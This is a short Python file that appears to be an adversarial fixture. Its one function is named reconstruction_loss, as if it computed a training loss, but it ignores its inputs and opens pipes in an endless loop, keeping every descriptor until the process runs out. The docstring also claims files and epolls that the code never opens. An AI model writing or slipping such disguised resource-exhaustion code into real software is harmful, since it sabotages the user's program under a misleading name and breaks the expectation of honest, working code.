"""Opens files, pipes and epolls until there are no descriptors left, and keeps them."""

import os

kept = []


def reconstruction_loss(A, R):
    try:
        while True:
            kept.extend(os.pipe())
    except OSError:
        return None
